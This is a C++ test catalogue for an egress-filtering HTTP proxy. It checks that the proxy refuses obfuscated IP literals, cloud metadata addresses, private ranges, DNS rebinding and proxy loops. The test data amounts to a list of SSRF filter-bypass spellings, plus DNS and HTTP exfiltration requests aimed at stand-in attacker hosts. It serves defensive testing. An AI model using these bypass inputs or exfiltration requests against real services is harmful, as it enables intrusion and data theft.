// BAD-INPUTS C (IP literals and resolved-address classification), D (DNS) and K (loops).
//
// The canaries listen on 127.0.0.1/.3/.4 at the sink's port {P} and the echo port {Q}, so every
// IP literal and every name resolving to them is requested on those ports: a dial would be an
// accept there (INV-NOCONN). Names come from static answers (rig.cc) or the fake DNS server.
// IP literals never match a host-name entry: the policy has no IP entry, so a well-formed literal
// is 403 host-not-allowed, and every other numeric spelling is 400 (resolvers would read it as an
// address).
//
// Not applicable:
//   C9 "lenient" variant is what gatehouse does (dial only the checked public address); the
//      strict variant is not configurable.
//   D9 TTL capping cannot be observed without waiting for a TTL; TTL 0 (no reuse) is tested.
//   K3 optional Via loop detection: gatehouse adds no Via header (nothing to detect).
#include <thread>

#include "tests/catalogue/catalogue.h"

namespace gatehouse::catalogue {

namespace {

std::string get(const std::string& authority) {
  return "GET http://" + authority + "{T} HTTP/1.1\r\nHost: " + authority + "\r\n\r\n";
}

std::string connect(const std::string& authority) {
  return "CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n\r\n";
}

// The same literal as an absolute-form GET (sink port) and as a CONNECT (echo port).
void both(std::vector<Case>& out, const std::string& id, const std::string& why,
          const std::string& host, int status, const std::string& reason = "") {
  Case g = refuse(id, why + " (absolute-form)", get(host + ":{P}"), status).noDns(host);
  Case c = refuse(id + ".connect", why + " (CONNECT)", connect(host + ":{Q}"), status).noDns(host);
  if (!reason.empty()) {
    g.reason = reason;
    c.reason = reason;
  }
  out.push_back(std::move(g));
  out.push_back(std::move(c));
}

// A request for `host` that must be refused after DNS with address-denied (C8, C10, D8).
Case addressDenied(const std::string& id, const std::string& why, const std::string& host,
                   const std::string& rule) {
  return custom(id, why, [host, rule](Ctx& ctx) {
    for (bool tunnel : {false, true}) {
      const std::string bytes = tunnel ? connect(host + ":{Q}") : get(host + ":{P}");
      auto ex = ctx.exchangeUntilClose(ctx.expand(bytes));
      if (!ctx.expect(ex.responses.size() == 1, std::string(tunnel ? "CONNECT" : "GET") +
                                                    ": expected one response, got " +
                                                    std::to_string(ex.responses.size()))) {
        continue;
      }
      const HttpResponse& r = ex.responses[0];
      ctx.expect(r.status == 403, "expected 403, actual " + std::to_string(r.status));
      ctx.expect(r.header("X-Gatehouse-Reason") == "address-denied",
                 "reason: expected address-denied, actual " + r.header("X-Gatehouse-Reason"));
      if (!rule.empty()) {
        ctx.expect(r.header("X-Gatehouse-Rule") == rule,
                   "rule: expected " + rule + ", actual " + r.header("X-Gatehouse-Rule"));
      }
      ctx.expect(r.header("Proxy-Status").find("destination_ip_prohibited") != std::string::npos,
                 "Proxy-Status: " + r.header("Proxy-Status"));
      ctx.expect(ex.closed, "INV-CLOSE: the connection stayed open");
    }
  });
}

// One GET for `host` answered with `status`, its reason starting with `reason_prefix`.
Case dnsStatus(const std::string& id, const std::string& why, const std::string& host, int status,
               const std::string& reason_prefix) {
  return custom(id, why, [host, status, reason_prefix](Ctx& ctx) {
    for (bool tunnel : {false, true}) {
      const std::string bytes = tunnel ? connect(host + ":{Q}") : get(host + ":{P}");
      auto ex = ctx.exchangeUntilClose(ctx.expand(bytes));
      const std::string what = tunnel ? "CONNECT: " : "GET: ";
      if (!ctx.expect(!ex.responses.empty(), what + "no response")) continue;
      const HttpResponse& r = ex.responses[0];
      ctx.expect(r.status == status, what + "expected " + std::to_string(status) + ", actual " +
                                         std::to_string(r.status) + " " +
                                         r.header("X-Gatehouse-Reason"));
      ctx.expect(r.header("X-Gatehouse-Reason").rfind(reason_prefix, 0) == 0,
                 what + "reason: expected " + reason_prefix + "..., actual " +
                     r.header("X-Gatehouse-Reason"));
    }
    ctx.expect(ctx.world.dns().queryCount(host) >= 1, "the allowed name was never queried");
  });
}

}  // namespace

std::vector<Case> addressCases() {
  std::vector<Case> c;
  // ---- C1-C6, C13: IP literal spellings (each in absolute-form and CONNECT) ----
  both(c, "C1", "loopback dotted quad", "127.0.0.1", 403, "host-not-allowed");
  both(c, "C1.b", "short form 127.1", "127.1", 400);
  both(c, "C1.c", "decimal integer 2130706433", "2130706433", 400);
  both(c, "C1.d", "hex integer 0x7f000001", "0x7f000001", 400);
  both(c, "C1.e", "mixed 0x7f.1", "0x7f.1", 400);
  both(c, "C1.f", "octal dotted 0177.0.0.1", "0177.0.0.1", 400);
  both(c, "C1.g", "octal integer 017700000001", "017700000001", 400);
  both(c, "C1.h", "zero-padded 127.000.000.001", "127.000.000.001", 400);
  both(c, "C1.i", "one padded octet 127.0.0.01", "127.0.0.01", 400);
  both(c, "C1.j", "the private canary 127.0.0.3", "127.0.0.3", 403);
  both(c, "C1.k", "the other canary 127.0.0.4", "127.0.0.4", 403);
  both(c, "C2", "a lone 0", "0", 400);
  both(c, "C2.b", "0.0.0.0 (reaches a 127.0.0.1 listener on Linux)", "0.0.0.0", 403);
  both(c, "C3", "metadata 169.254.169.254", "169.254.169.254", 403);
  both(c, "C3.b", "metadata as decimal 2852039166", "2852039166", 400);
  both(c, "C3.c", "metadata as octal 0251.0376.0251.0376", "0251.0376.0251.0376", 400);
  both(c, "C3.d", "metadata v4-mapped [::ffff:169.254.169.254]", "[::ffff:169.254.169.254]", 403);
  both(c, "C3.e", "metadata v4-mapped hex [::ffff:a9fe:a9fe]", "[::ffff:a9fe:a9fe]", 403);
  both(c, "C3.f", "metadata.google.internal (a name off the list)", "metadata.google.internal",
       403);
  both(c, "C4", "[::1]", "[::1]", 403);
  both(c, "C4.b", "[0:0:0:0:0:0:0:1]", "[0:0:0:0:0:0:0:1]", 403);
  both(c, "C4.c", "[::]", "[::]", 403);
  both(c, "C4.d", "v4-compatible [::127.0.0.1]", "[::127.0.0.1]", 403);
  both(c, "C4.e", "v4-mapped [::ffff:127.0.0.1]", "[::ffff:127.0.0.1]", 403);
  both(c, "C4.f", "v4-mapped full [0:0:0:0:0:ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:1]", 403);
  both(c, "C5", "NAT64 64:ff9b::a9fe:a9fe", "[64:ff9b::a9fe:a9fe]", 403);
  both(c, "C5.b", "6to4 2002:a9fe:a9fe::1", "[2002:a9fe:a9fe::1]", 403);
  both(c, "C5.c", "Teredo 2001:0:4136:e378:8000:63bf:3fff:fdd2",
       "[2001:0:4136:e378:8000:63bf:3fff:fdd2]", 403);
  both(c, "C6", "zone id [fe80::1%25eth0]", "[fe80::1%25eth0]", 400);
  both(c, "C6.b", "zone id [fe80::1%eth0]", "[fe80::1%eth0]", 400);
  both(c, "C6.c", "unbracketed fe80::1%lo", "fe80::1%lo", 400);
  both(c, "C13", "trailing-dot IP 127.0.0.1.", "127.0.0.1.", 400);
  both(c, "C13.b", "trailing-dot IP 127.0.0.3.", "127.0.0.3.", 400);
  // ---- C7: special ranges as literals ----
  const std::pair<const char*, const char*> ranges[] = {
      {"C7", "10.0.0.5"},          {"C7.b", "172.16.0.1"},  {"C7.c", "192.168.1.1"},
      {"C7.d", "100.64.0.1"},      {"C7.e", "169.254.0.1"}, {"C7.f", "127.255.255.254"},
      {"C7.g", "[fc00::1]"},       {"C7.h", "[fe80::1]"},   {"C7.i", "224.0.0.1"},
      {"C7.j", "255.255.255.255"}, {"C7.k", "240.0.0.1"},   {"C7.l", "198.18.0.1"},
      {"C7.m", "192.0.0.1"},       {"C7.n", "0.1.2.3"},     {"C7.o", "[ff02::1]"},
      {"C7.p", "[fd12:3456::1]"},
  };
  for (const auto& [id, host] : ranges) {
    both(c, id, std::string("special range ") + host, host, 403);
  }
  // ---- C7-C11, D8: resolved addresses ----
  c.push_back(addressDenied("C8", "allowed name whose A record is 10.0.0.5", "priv.api.test",
                            "address-guard:private"));
  c.push_back(addressDenied("C8.b", "allowed name whose A record is the canary 127.0.0.3",
                            "loop.api.test", "address-guard:loopback"));
  c.push_back(addressDenied("C7.q", "allowed name resolving to metadata 169.254.169.254",
                            "meta.api.test", "address-guard:link-local"));
  c.push_back(
      addressDenied("C7.r", "allowed name resolving to CGNAT 100.64.0.1", "cgnat.api.test", ""));
  c.push_back(addressDenied("C7.s", "allowed name resolving to 0.0.0.0", "zero.api.test", ""));
  c.push_back(
      addressDenied("C7.t", "allowed name resolving (DNS) to ULA fc00::1", "ula.api.test", ""));
  c.push_back(addressDenied("C7.u", "allowed name resolving (DNS) to ::1", "v6lo.api.test", ""));
  c.push_back(addressDenied("C7.v", "allowed name resolving (DNS) to metadata",
                            "meta.google.api.test", ""));
  c.push_back(forward("C9",
                      "mixed answers (127.0.0.3, 127.0.0.2): only the checked public "
                      "address is dialed",
                      get("mixed.api.test:{P}"), hasHeader("Host", "mixed.api.test:{P}")));
  c.push_back(forward("C9.b", "mixed DNS answers (10.0.0.1, 127.0.0.2): the public one is dialed",
                      get("mixdns.api.test:{P}")));
  c.push_back(addressDenied("C10", "AAAA answer ::ffff:10.0.0.1 is unwrapped and denied",
                            "mapped.api.test", ""));
  c.push_back(addressDenied("C10.b", "AAAA answer ::ffff:127.0.0.3 is unwrapped and denied",
                            "mapped-lo.api.test", ""));
  c.push_back(addressDenied("C11", "a name resolving to the proxy's own address (not exempted)",
                            "self.api.test", ""));
  c.push_back(refuse("C12", "the proxy's admin listener by IP literal through the proxy",
                     get("127.0.0.1:{M}"), 403));
  c.push_back(refuse("C12.b",
                     "the proxy's admin listener by name through the proxy (port not "
                     "allowed)",
                     get("self.api.test:{M}"), 403)
                  .reasonIs("port-not-allowed"));
  c.push_back(refuse("C12.c", "the admin /metrics path as origin-form on the proxy listener",
                     "GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", 400));

  // ---- D ----
  c.push_back(
      refuse("D1", "denied name: 403 and zero DNS queries", get("s3cr3t.attacker.test:{P}"), 403)
          .reasonIs("host-not-allowed")
          .noDns("s3cr3t.attacker.test"));
  c.push_back(refuse("D1.b", "denied name by CONNECT", connect("{U}.s3cr3t.attacker.test:443"), 403)
                  .noDns("{U}.s3cr3t.attacker.test"));
  c.push_back(refuse("D1.c", "denied name by POST with a body",
                     "POST http://{U}.attacker.test:{P}{T} HTTP/1.1\r\nHost: "
                     "{U}.attacker.test:{P}\r\nContent-Length: 4\r\n\r\ndata",
                     403)
                  .noDns("{U}.attacker.test"));
  c.push_back(refuse("D1.d", "deny-listed name under an allowed wildcard: no query",
                     connect("bad.api.test:{Q}"), 403)
                  .reasonIs("host-denied"));
  c.push_back(refuse("D1.e", "exfiltration label on the port-denied allowed wildcard",
                     get("{U}-c2VjcmV0.api.test:6379"), 403)
                  .noDns("{U}-c2VjcmV0.api.test"));
  c.push_back(refuse("D1.f", "exfiltration in HTTP/1.0 without Host",
                     "GET http://{U}.attacker.test:{P}{T} HTTP/1.0\r\n\r\n", 403)
                  .noDns("{U}.attacker.test"));
  c.push_back(custom(
      "D2",
      "DNS rebinding (TTL 0, 127.0.0.2 then 127.0.0.3): the canary on "
      "127.0.0.3 is never dialed",
      [](Ctx& ctx) {
        int served = 0;
        int denied = 0;
        for (int i = 0; i < 6; ++i) {
          // "/close": the sink closes, so every request resolves again.
          auto ex = ctx.exchangeUntilClose(
              ctx.expand("GET http://rebind.api.test:{P}{T}/close HTTP/1.1\r\nHost: "
                         "rebind.api.test:{P}\r\nConnection: close\r\n\r\n"));
          if (ex.responses.empty()) {
            ctx.fail("request " + std::to_string(i) + ": no response");
            continue;
          }
          const int s = ex.responses[0].status;
          served += s == 200;
          denied += s == 403;
          ctx.expect(s == 200 || s == 403, "expected 200 or 403, actual " + std::to_string(s));
        }
        ctx.expect(served >= 2 && denied >= 2, "expected both answers to be used (served " +
                                                   std::to_string(served) + ", denied " +
                                                   std::to_string(denied) + ")");
      }));
  c.push_back(custom("D2.b",
                     "rebinding across keep-alive reuse: later requests reuse the checked "
                     "connection or are refused, never reach 127.0.0.3",
                     [](Ctx& ctx) {
                       auto client = ctx.connect();
                       if (client == nullptr) return;
                       for (int i = 0; i < 4; ++i) {
                         client->send(ctx.expand(get("rebind2.api.test:{P}")));
                         auto r = client->readResponse(milliseconds(3000));
                         if (!ctx.expect(r.has_value(), "no response")) return;
                         if (r->status != 200) {
                           ctx.expect(r->status == 403, "expected 403 after a rebind, actual " +
                                                            std::to_string(r->status));
                           return;
                         }
                       }
                     }));
  c.push_back(dnsStatus("D3", "NXDOMAIN for an allowed name", "nx.api.test", 502, "dns-nxdomain"));
  c.push_back(dnsStatus("D3.b", "an allowed name nobody answers for (default NXDOMAIN)",
                        "unknown.api.test", 502, "dns-nxdomain"));
  c.push_back(dnsStatus("D4", "SERVFAIL", "servfail.api.test", 502, "dns-").serialRun());
  c.push_back(dnsStatus("D4.b", "REFUSED", "refused.api.test", 502, "dns-").serialRun());
  c.push_back(custom("D5", "a silent DNS server: 504 within the 500 ms DNS timeout", [](Ctx& ctx) {
                const auto started = Clock::now();
                auto ex = ctx.exchangeUntilClose(ctx.expand(get("silent.api.test:{P}")),
                                                 milliseconds(4000));
                const long ms = testing::elapsedMs(started);
                if (!ctx.expect(!ex.responses.empty(), "no response")) return;
                ctx.expect(ex.responses[0].status == 504,
                           "expected 504, actual " + std::to_string(ex.responses[0].status));
                ctx.expect(ex.responses[0].header("X-Gatehouse-Reason") == "dns-timeout",
                           "reason: " + ex.responses[0].header("X-Gatehouse-Reason"));
                ctx.expect(ms >= 300 && ms <= 2000, "answered after " + std::to_string(ms) + " ms");
              }).serialRun());
  c.push_back(
      custom("D7.g",
             "a name whose answers are truncated and whose TCP fallback is cut off "
             "must not fail other names' lookups in flight (a silent name still "
             "ends in 504 at the DNS timeout)",
             [](Ctx& ctx) {
               const size_t before = ctx.world.dns().queryCount("silent.api.test");
               auto silent = ctx.connect();
               if (silent == nullptr) return;
               const auto started = Clock::now();
               ctx.sent = ctx.expand(get("silent.api.test:{P}"));
               silent->send(ctx.sent);
               const auto deadline = Clock::now() + milliseconds(2000);
               while (ctx.world.dns().queryCount("silent.api.test") == before &&
                      Clock::now() < deadline) {
                 ctx.world.dns().waitForQueries(ctx.world.dns().queryCount() + 1, milliseconds(20));
               }
               // A few of them while the silent lookup is in flight.
               for (int i = 0; i < 4; ++i) {
                 auto trunc = ctx.exchangeUntilClose(ctx.expand(get("trunc.api.test:{P}")));
                 ctx.expect(!trunc.responses.empty() && trunc.responses[0].status == 502,
                            "the truncated name: expected 502");
               }
               auto r = silent->readResponse(milliseconds(3000));
               const long ms = testing::elapsedMs(started);
               if (!ctx.expect(r.has_value(), "the silent name got no response")) return;
               ctx.expect(r->status == 504 && r->header("X-Gatehouse-Reason") == "dns-timeout",
                          "the silent name: expected 504 dns-timeout, actual " +
                              std::to_string(r->status) + " " + r->header("X-Gatehouse-Reason") +
                              " after " + std::to_string(ms) + " ms");
             })
          .on(Profile::kLimits)  // one worker: one resolver for both names
          .serialRun()
          .knownBug("c-ares 1.18 ends every query sharing the server socket with ECONNREFUSED "
                    "when one name's TCP fallback fails (it reports SERVFAIL the same way, so the "
                    "resolver cannot retry only these): a silent name in flight gets 502 "
                    "dns-failure instead of 504. Fix: one c-ares channel per query, or c-ares "
                    ">= 1.20"));
  c.push_back(
      custom("D6", "slow names (answer after 3 s) do not starve a fast one", [](Ctx& ctx) {
        std::vector<std::unique_ptr<RawClient>> slow;
        const size_t before = ctx.world.dns().queryCount("slow.api.test");
        for (int i = 0; i < 12; ++i) {
          auto client = ctx.connect();
          if (client == nullptr) return;
          client->send(ctx.expand(get("slow.api.test:{P}")));
          slow.push_back(std::move(client));
        }
        const auto deadline = Clock::now() + milliseconds(2000);
        while (ctx.world.dns().queryCount("slow.api.test") == before && Clock::now() < deadline) {
          ctx.world.dns().waitForQueries(ctx.world.dns().queryCount() + 1, milliseconds(50));
        }
        const auto started = Clock::now();
        auto ex = ctx.exchangeUntilClose(ctx.expand(
            "GET http://fast.api.test:{P}{T} HTTP/1.1\r\nHost: fast.api.test:{P}\r\nConnection: "
            "close\r\n\r\n"));
        const long ms = testing::elapsedMs(started);
        ctx.expect(!ex.responses.empty() && ex.responses[0].status == 200,
                   "the fast name was not served");
        ctx.expect(ms < 450, "the fast name took " + std::to_string(ms) + " ms");
        for (auto& s : slow) {
          auto r = s->readResponse(milliseconds(3000));
          ctx.expect(r.has_value() && r->status == 504,
                     "a slow name: expected 504 at the DNS timeout, actual " +
                         (r ? std::to_string(r->status) : std::string("none")));
        }
      }).serialRun());
  c.push_back(dnsStatus("D7", "answer count promises more than the packet holds", "short.api.test",
                        502, "dns-")
                  .serialRun());
  c.push_back(
      dnsStatus("D7.b", "compression pointer loop", "ptrloop.api.test", 502, "dns-").serialRun());
  c.push_back(
      dnsStatus("D7.c", "oversized owner name", "longname.api.test", 502, "dns-").serialRun());
  c.push_back(dnsStatus("D7.d", "CNAME loop", "loop1.api.test", 502, "dns-").serialRun());
  c.push_back(
      dnsStatus("D7.e", "always truncated (TC over UDP, TCP closed)", "trunc.api.test", 502, "dns-")
          .serialRun());
  c.push_back(addressDenied("D7.f",
                            "200 A records (truncated over UDP, full over TCP), all "
                            "private: classified, no crash",
                            "many.api.test", ""));
  c.push_back(addressDenied("D8", "CNAME from an allowed name to a loopback address",
                            "cname.api.test", "address-guard:loopback"));
  c.push_back(
      forward("D8.b", "CNAME to a public address is followed", get("cnameok.api.test:{P}")));
  c.push_back(custom(
      "D9", "TTL 0 answers are not reused: every new connection resolves again", [](Ctx& ctx) {
        const size_t before = ctx.world.dns().queryCount("ttl0.api.test", testing::kDnsTypeA);
        for (int i = 0; i < 2; ++i) {
          auto ex = ctx.exchangeUntilClose(
              ctx.expand("GET http://ttl0.api.test:{P}{T}/close HTTP/1.1\r\nHost: "
                         "ttl0.api.test:{P}\r\nConnection: close\r\n\r\n"));
          ctx.expect(!ex.responses.empty() && ex.responses[0].status == 200, "expected 200");
        }
        const size_t after = ctx.world.dns().queryCount("ttl0.api.test", testing::kDnsTypeA);
        ctx.expect(after >= before + 2,
                   "expected two A queries, got " + std::to_string(after - before));
      }));

  // ---- K ----
  for (const char* host : {"self.test", "127.0.0.1"}) {
    const std::string h = host;
    const std::string id = h == "self.test" ? "K1" : "K1.c";
    c.push_back(refuse(id, "absolute-form to the proxy's own address and port via " + h,
                       get(h + ":{X}"), 403)
                    .on(Profile::kLoop)
                    .reasonIs("proxy-loop"));
    c.push_back(refuse(id + ".connect", "CONNECT to the proxy's own address and port via " + h,
                       connect(h + ":{X}"), 403)
                    .on(Profile::kLoop)
                    .reasonIs("proxy-loop"));
  }
  c.push_back(
      forward("K2",
              "a request for another proxy on an allowed host is a plain request "
              "to that host (origin-form upstream)",
              "GET http://{A}{T} HTTP/1.1\r\nHost: {A}\r\nProxy-Connection: keep-alive\r\n\r\n",
              [](const SinkRecord& r, const Ctx& ctx) -> std::string {
                return r.request.target == ctx.path() ? "" : "target " + r.request.target;
              }));
  return c;
}

}  // namespace gatehouse::catalogue
